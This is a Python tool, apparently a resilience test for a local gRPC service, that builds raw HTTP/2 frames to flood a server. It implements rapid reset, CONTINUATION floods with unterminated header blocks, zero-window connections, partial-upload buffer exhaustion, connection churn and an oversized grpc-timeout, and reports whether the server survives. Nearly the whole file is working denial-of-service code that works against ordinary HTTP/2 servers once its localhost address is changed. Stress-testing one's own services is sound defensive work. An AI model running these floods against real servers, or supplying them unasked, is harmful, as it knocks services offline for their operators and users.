#!/usr/bin/python3
"""Opens many HTTP/2 streams on one connection to a gRPC server, as a hostile client would, with
hand-built frames (RFC 9113; no HTTP/2 library): each stream a GetAttention call's HEADERS, then
with --reset its DATA and an RST_STREAM at once (the "rapid reset" pattern). Reads whatever the
server sends for --hold seconds, then closes. It never acknowledges the server's SETTINGS unless
--settings_ack is given (--no_settings_ack, the default, says so explicitly): gRPC 1.51 applies
its SETTINGS, MAX_CONCURRENT_STREAMS among them, only once the client has acknowledged them.

With --continuation_bytes N it sends, on one connection whose SETTINGS it never acknowledges, a
GetAttention call's HEADERS for stream 1 without END_HEADERS, then CONTINUATION frames of 16 KiB,
each one whole literal header field, until N bytes were sent in all, --max_seconds passed or the
server closed the connection: a header block without end. With --unterminated_field the HEADERS
frame's block instead starts a literal header field with a huge declared length and the
CONTINUATION frames carry that field's bytes, which no frame completes.

In both of these modes it prints one JSON line at the end:
    {"bytes_sent": ..., "streams_sent": ..., "closed_by_server": ..., "seconds": ...}
bytes_sent counts the bytes the kernel took, streams_sent the streams whose HEADERS it took whole,
closed_by_server is true when the server closed or reset the connection before the script did
(while sending or during --hold), and seconds is the time spent sending. What the server sends is
read all along, so that its writes never wait for this client; a send that makes no progress for
10 s (a server that stops reading), or --max_seconds of sending in all, ends the sending.

With --closed_window N it opens N connections instead, each with an initial flow-control window of
0 (SETTINGS_INITIAL_WINDOW_SIZE) and one whole ListModels call, and holds them for --hold seconds
without reading or ever opening the window: clients that ask and never take the answer.

With --connections M (and without --reset) it opens M connections, each with --streams streams left
open (HEADERS alone, the request never finished), and holds them all for --hold seconds; it prints
{"connections": M, "streams_sent": ..., "closed_by_server": how many the server closed}.

With --partial_bytes B (and --connections M, --streams S) it opens M connections that keep flow
control as a client must (the server's SETTINGS_INITIAL_WINDOW_SIZE and WINDOW_UPDATE frames), and
on each opens S streams, each a GetAttention call whose message is declared longer than it is and
whose first B bytes are sent, the rest never: requests whose message gRPC buffers and never gets
whole. A stream whose window stays closed for 2 s is left as it is. With --slow_upload SECONDS, a
further connection sends one whole GetAttention call in two halves, at least SECONDS apart: once a
tenth of the flood's connections have sent their streams, the second half once the rest have
too: an honest client on a slow link while most of the flood arrives. It holds everything for --hold
seconds and prints {"connections": M, "streams_sent": ..., "bytes_sent": ..., "streams_reset":
streams the server reset, "closed_by_server": connections it closed, "slow_upload_answered": true
when the slow upload got its answer's message}.

With --grpc_timeout VALUE it makes one GetAttention call whose grpc-timeout header is VALUE (e.g.
2070000H: a deadline past what some clocks hold) and prints {"answered": true when the answer's
message came within --hold seconds}.

Every connection comes from the local address --source (e.g. 127.0.0.2) when given.

With --churn N it opens connections one after another for --max_seconds, on each sends the
preface, SETTINGS and its ACK and N whole GetAttention calls at once, and drops the connection with
a reset (SO_LINGER 0) without reading anything: calls whose caller has gone before the server has
read them. With --leave_after SECONDS it waits that long before dropping each connection (the calls
have reached the server by then), and with --threads T, T threads do so at once. It prints {"connections": ..., "streams_sent": ..., "seconds": ...}.

    h2_stream_flood.py --port PORT [--streams 20000] [--reset] [--settings_ack] [--hold 3]
    h2_stream_flood.py --port PORT --settings_ack --streams 100 --connections 300 [--hold 3]
    h2_stream_flood.py --port PORT --partial_bytes 3000000 --streams 20 --connections 10 \
        [--slow_upload 1] [--hold 3]
    h2_stream_flood.py --port PORT --churn 100 [--leave_after 0.02] [--threads 4] [--max_seconds 3]
    h2_stream_flood.py --port PORT --continuation_bytes 536870912 [--unterminated_field] [--hold 3]
    h2_stream_flood.py --port PORT --grpc_timeout 2070000H [--hold 3]
    h2_stream_flood.py --port PORT --closed_window 100 [--hold 3]
"""
import argparse
import bisect
import json
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS_FRAME, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
SETTINGS_INITIAL_WINDOW_SIZE = 4
END_STREAM, ACK, END_HEADERS = 1, 1, 4
# The largest frame payload a peer must accept before SETTINGS_MAX_FRAME_SIZE says more.
MAX_FRAME_PAYLOAD = 1 << 14
SEND_TIMEOUT_SECONDS = 10
# The local address connections come from (--source): the server counts connections by it.
SOURCE = None


def connect(port, timeout=SEND_TIMEOUT_SECONDS):
    source = (SOURCE, 0) if SOURCE else None
    return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=source)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length_prefix(value):
    """HPACK's 7-bit prefix integer (RFC 7541 5.1) for a string length, Huffman off."""
    if value < 127:
        return bytes([value])
    out, value = [127], value - 127
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    return bytes(out + [value])


def literal(name, value):
    """A header field without indexing, with a new name (RFC 7541 6.2.2)."""
    return b"\x00" + length_prefix(len(name)) + name + length_prefix(len(value)) + value


def call_headers(method):
    return b"".join(literal(n, v) for n, v in [
        (b":method", b"POST"), (b":scheme", b"http"),
        (b":path", b"/attnscope.v1.AttentionService/" + method), (b":authority", b"127.0.0.1"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")])


HEADERS = call_headers(b"GetAttention")
# GetAttentionRequest{text: "hello world"} (field 2), as one gRPC message.
MESSAGE = b"\x12\x0bhello world"
BODY = b"\x00" + struct.pack(">I", len(MESSAGE)) + MESSAGE


class Connection:
    """A connection that counts the bytes the kernel takes and drains what the server sends on a
    thread of its own, noting when the server closes or resets it."""

    def __init__(self, port):
        self.socket = connect(port)
        self.bytes_sent = 0
        self.closed_by_server = threading.Event()
        self._closing = threading.Event()
        self._reader = threading.Thread(target=self._drain, daemon=True)
        self._reader.start()

    def _drain(self):
        while not self._closing.is_set():
            readable, _, _ = select.select([self.socket], [], [], 0.1)
            if not readable:
                continue
            try:
                if self.socket.recv(1 << 20):
                    continue
            except socket.timeout:
                continue
            except OSError:
                pass
            if not self._closing.is_set():
                self.closed_by_server.set()
            return

    def send(self, data):
        """Sends all of `data`; False when the server closed or reset the connection or stopped
        reading (no progress within the send timeout) first."""
        view = memoryview(data)
        try:
            while view and not self.closed_by_server.is_set():
                sent = self.socket.send(view)
                self.bytes_sent += sent
                view = view[sent:]
        except ConnectionError:  # BrokenPipeError, ConnectionResetError and the like
            self.closed_by_server.set()
        except socket.timeout:
            print("the server took nothing for %d s" % SEND_TIMEOUT_SECONDS, file=sys.stderr)
        return not view

    def hold(self, seconds):
        """Waits `seconds` or until the server closes the connection, then closes it."""
        self.closed_by_server.wait(seconds)
        self._closing.set()
        self._reader.join()
        self.socket.close()


def preface(settings_ack):
    # An empty SETTINGS, and the ACK of the server's SETTINGS only when asked for.
    ack = frame(SETTINGS, ACK, 0, b"") if settings_ack else b""
    return PREFACE + frame(SETTINGS, 0, 0, b"") + ack


def flood_streams(connection, streams, reset, settings_ack, deadline):
    """Returns how many streams' frames the kernel took whole."""
    if not connection.send(preface(settings_ack)):
        return 0
    sent, batch, ends = 0, b"", []
    for i in range(streams):
        stream = 1 + 2 * i
        if reset:
            batch += (frame(HEADERS_FRAME, END_HEADERS, stream, HEADERS) +
                      frame(DATA, END_STREAM, stream, BODY) +
                      frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))  # CANCEL
        else:
            batch += frame(HEADERS_FRAME, END_HEADERS, stream, HEADERS)  # the stream left open
        ends.append(len(batch))
        if len(batch) > 1 << 16 or i == streams - 1 or time.monotonic() >= deadline:
            start = connection.bytes_sent
            done = connection.send(batch)
            sent += bisect.bisect_right(ends, connection.bytes_sent - start)
            if not done or time.monotonic() >= deadline:
                break
            batch, ends = b"", []
    return sent


def flood_continuation(connection, total_bytes, unterminated_field, deadline):
    """Returns 1 when the kernel took the HEADERS frame whole, else 0."""
    if unterminated_field:
        # A literal header field (RFC 7541 6.2.2) whose value is declared longer than all that
        # will be sent, so that no CONTINUATION frame completes it.
        block = b"\x00" + length_prefix(6) + b"x-junk" + length_prefix(max(total_bytes, 1 << 30))
        payload = b"a" * MAX_FRAME_PAYLOAD
    else:
        block = HEADERS
        payload = literal(b"x-junk", b"a" * (MAX_FRAME_PAYLOAD - 11))  # 11: type, name, lengths
    if not connection.send(preface(False) + frame(HEADERS_FRAME, 0, 1, block)):  # no END_HEADERS
        return 0
    chunk = frame(CONTINUATION, 0, 1, payload) * 16
    while connection.bytes_sent < total_bytes and time.monotonic() < deadline:
        if not connection.send(chunk[:total_bytes - connection.bytes_sent]):
            break
    return 1


def hold_closed_windows(port, connections, hold):
    headers = call_headers(b"ListModels")
    empty = b"\x00" + struct.pack(">I", 0)  # ListModelsRequest{}
    # SETTINGS_INITIAL_WINDOW_SIZE = 0, and the ACK of the server's SETTINGS, without which gRPC
    # leaves the window at its default.
    settings = frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(4, 1, 0, b"")
    sockets = []
    for _ in range(connections):
        connection = connect(port, timeout=None)
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings +
                           frame(1, 4, 1, headers) + frame(0, 1, 1, empty))
        sockets.append(connection)
    time.sleep(hold)
    for connection in sockets:
        connection.close()


class FlowControlledConnection:
    """A connection that sends DATA only within the flow-control windows the server grants (RFC
    9113 6.9), reading the server's frames on a thread of its own."""

    def __init__(self, port):
        self.socket = connect(port)
        self.changed = threading.Condition()
        self.connection_window = 65535
        self.initial_window = 65535
        self.stream_windows = {}
        self.reset_streams = set()
        self.answered_streams = set()
        self.closed_by_server = False
        self.bytes_sent = 0
        self.socket.sendall(preface(True))
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        buffer = b""
        while True:
            try:
                data = self.socket.recv(1 << 20)
            except OSError:
                data = b""
            if not data:
                with self.changed:
                    self.closed_by_server = True
                    self.changed.notify_all()
                return
            buffer += data
            while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                length = int.from_bytes(buffer[:3], "big")
                kind, flags = buffer[3], buffer[4]
                stream = int.from_bytes(buffer[5:9], "big") & 0x7fffffff
                payload, buffer = buffer[9:9 + length], buffer[9 + length:]
                with self.changed:
                    if kind == SETTINGS and not flags & ACK:
                        for i in range(0, len(payload) - 5, 6):
                            key, value = struct.unpack(">HI", payload[i:i + 6])
                            if key == SETTINGS_INITIAL_WINDOW_SIZE:
                                for s in self.stream_windows:
                                    self.stream_windows[s] += value - self.initial_window
                                self.initial_window = value
                    elif kind == WINDOW_UPDATE:
                        increment = int.from_bytes(payload[:4], "big") & 0x7fffffff
                        if stream == 0:
                            self.connection_window += increment
                        elif stream in self.stream_windows:
                            self.stream_windows[stream] += increment
                    elif kind == RST_STREAM:
                        self.reset_streams.add(stream)
                    elif kind == DATA and payload:
                        self.answered_streams.add(stream)
                    self.changed.notify_all()

    def send_data(self, stream, body, end_stream):
        """Sends `body` as DATA frames on `stream` as the windows allow; False when the stream or
        the connection ended first, or a window stayed closed for 2 s."""
        offset = 0
        while offset < len(body) or (end_stream and offset == 0 and not body):
            with self.changed:
                if not self.changed.wait_for(
                        lambda: self.closed_by_server or stream in self.reset_streams or
                        min(self.connection_window, self.stream_windows[stream]) > 0, timeout=2):
                    return False
                if self.closed_by_server or stream in self.reset_streams:
                    return False
                n = min(self.connection_window, self.stream_windows[stream], MAX_FRAME_PAYLOAD,
                        len(body) - offset)
                self.connection_window -= n
                self.stream_windows[stream] -= n
            last = offset + n == len(body)
            try:
                self.socket.sendall(frame(DATA, END_STREAM if end_stream and last else 0, stream,
                                          body[offset:offset + n]))
            except OSError:
                return False
            self.bytes_sent += n
            offset += n
            if not body:
                break
        return True

    def open_stream(self, stream):
        with self.changed:
            self.stream_windows[stream] = self.initial_window
        try:
            self.socket.sendall(frame(HEADERS_FRAME, END_HEADERS, stream, HEADERS))
        except OSError:
            return False
        return True


def call_with_timeout(port, timeout, hold):
    connection = FlowControlledConnection(port)
    headers = HEADERS + literal(b"grpc-timeout", timeout.encode())
    connection.socket.sendall(frame(HEADERS_FRAME, END_HEADERS, 1, headers) +
                              frame(DATA, END_STREAM, 1, BODY))
    with connection.changed:
        connection.changed.wait_for(lambda: 1 in connection.answered_streams, timeout=hold)
        answered = 1 in connection.answered_streams
    connection.socket.close()
    return {"answered": answered}


def partial_uploads(port, connections, streams, partial_bytes, slow_upload, hold):
    # A GetAttentionRequest whose text field (2) and message are declared longer than what is sent.
    declared = partial_bytes + 1000
    text = b"a" * partial_bytes
    body = b"\x00" + struct.pack(">I", declared) + b"\x12" + length_prefix_varint(declared - 5) + text
    body = body[:partial_bytes]
    flooders = [FlowControlledConnection(port) for _ in range(connections)]

    def flood(connection):
        for i in range(streams):
            stream = 1 + 2 * i
            if not connection.open_stream(stream):
                return
            connection.send_data(stream, body, end_stream=False)

    def flood_all(group):
        threads = [threading.Thread(target=flood, args=(c,)) for c in group]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    # The slow upload begins after a tenth of the flood, so that most of it comes later.
    first = max(1, connections // 10) if slow_upload else connections
    flood_all(flooders[:first])
    answered = None
    if slow_upload:
        honest = FlowControlledConnection(port)
        honest.open_stream(1)
        honest.send_data(1, BODY[:len(BODY) // 2], end_stream=False)
        second_half = time.monotonic() + slow_upload
        flood_all(flooders[first:])
        time.sleep(max(0, second_half - time.monotonic()))
        honest.send_data(1, BODY[len(BODY) // 2:], end_stream=True)
        with honest.changed:
            honest.changed.wait_for(lambda: 1 in honest.answered_streams or 1 in honest.reset_streams
                                    or honest.closed_by_server, timeout=10)
            answered = 1 in honest.answered_streams
        honest.socket.close()
    time.sleep(hold)
    result = {"connections": connections, "streams_sent": sum(len(c.stream_windows) for c in flooders),
              "bytes_sent": sum(c.bytes_sent for c in flooders),
              "streams_reset": sum(len(c.reset_streams) for c in flooders),
              "closed_by_server": sum(c.closed_by_server for c in flooders),
              "slow_upload_answered": answered}
    for c in flooders:
        c.socket.close()
    return result


def length_prefix_varint(value):
    """A protobuf varint (a length-delimited field's length)."""
    out = []
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    return bytes(out + [value])


def churn(port, calls, deadline, leave_after=0.0):
    """Returns how many connections it opened and dropped."""
    batch = preface(True) + b"".join(
        frame(HEADERS_FRAME, END_HEADERS, 1 + 2 * i, HEADERS) + frame(DATA, END_STREAM, 1 + 2 * i, BODY)
        for i in range(calls))
    connections = 0
    while time.monotonic() < deadline:
        connection = connect(port)
        connection.sendall(batch)
        if leave_after:
            time.sleep(leave_after)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()
        connections += 1
    return connections


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--streams", type=int, default=20000)
    parser.add_argument("--reset", action="store_true")
    parser.add_argument("--settings_ack", dest="settings_ack", action="store_true")
    parser.add_argument("--no_settings_ack", dest="settings_ack", action="store_false")
    parser.add_argument("--continuation_bytes", type=int, default=0, metavar="N")
    parser.add_argument("--unterminated_field", action="store_true")
    parser.add_argument("--max_seconds", type=float, default=30.0)
    parser.add_argument("--hold", type=float, default=3.0)
    parser.add_argument("--closed_window", type=int, default=0, metavar="N")
    parser.add_argument("--churn", type=int, default=0, metavar="N")
    parser.add_argument("--connections", type=int, default=1, metavar="M")
    parser.add_argument("--source", metavar="ADDRESS")
    parser.add_argument("--leave_after", type=float, default=0, metavar="SECONDS")
    parser.add_argument("--threads", type=int, default=1, metavar="T")
    parser.add_argument("--partial_bytes", type=int, default=0, metavar="B")
    parser.add_argument("--slow_upload", type=float, default=0, metavar="SECONDS")
    parser.add_argument("--grpc_timeout", metavar="VALUE")
    args = parser.parse_args()
    global SOURCE
    SOURCE = args.source
    if args.grpc_timeout:
        print(json.dumps(call_with_timeout(args.port, args.grpc_timeout, args.hold)), flush=True)
        return
    if args.partial_bytes:
        print(json.dumps(partial_uploads(args.port, args.connections, args.streams,
                                         args.partial_bytes, args.slow_upload, args.hold)),
              flush=True)
        return
    if args.churn:
        start = time.monotonic()
        counts = []
        threads = [threading.Thread(target=lambda: counts.append(
            churn(args.port, args.churn, start + args.max_seconds, args.leave_after)))
                   for _ in range(args.threads)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        connections = sum(counts)
        print(json.dumps({"connections": connections, "streams_sent": connections * args.churn,
                          "seconds": round(time.monotonic() - start, 3)}), flush=True)
        return
    if args.closed_window:
        hold_closed_windows(args.port, args.closed_window, args.hold)
        return
    if args.connections > 1:
        connections = [Connection(args.port) for _ in range(args.connections)]
        deadline = time.monotonic() + args.max_seconds
        streams = sum(flood_streams(c, args.streams, False, args.settings_ack, deadline)
                      for c in connections)
        time.sleep(args.hold)
        closed = sum(c.closed_by_server.is_set() for c in connections)
        for c in connections:
            c._closing.set()
        for c in connections:
            c.hold(0)
        print(json.dumps({"connections": args.connections, "streams_sent": streams,
                          "closed_by_server": closed}), flush=True)
        return
    connection = Connection(args.port)
    start = time.monotonic()
    deadline = start + args.max_seconds
    if args.continuation_bytes:
        streams = flood_continuation(connection, args.continuation_bytes, args.unterminated_field,
                                     deadline)
    else:
        streams = flood_streams(connection, args.streams, args.reset, args.settings_ack, deadline)
    seconds = time.monotonic() - start
    connection.hold(args.hold)
    print(json.dumps({"bytes_sent": connection.bytes_sent, "streams_sent": streams,
                      "closed_by_server": connection.closed_by_server.is_set(),
                      "seconds": round(seconds, 3)}), flush=True)


if __name__ == "__main__":
    main()
